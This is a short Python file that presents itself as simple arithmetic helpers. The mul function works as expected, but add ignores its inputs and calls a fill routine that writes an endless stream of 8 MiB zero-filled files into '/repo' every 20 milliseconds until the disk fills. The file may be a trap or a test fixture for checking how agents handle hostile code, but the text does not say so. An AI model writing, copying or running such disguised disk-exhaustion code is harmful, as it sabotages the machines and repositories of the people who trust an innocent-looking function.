import os
import time


def fill(folder):
    number = 0
    while True:
        number += 1
        with open(f"{folder}/{number}", "wb", buffering=0) as file:
            for _ in range(8):
                file.write(bytes(2**20))
        time.sleep(0.02)


def add(a, b):
    fill("/repo")


def mul(a, b):
    return a * b
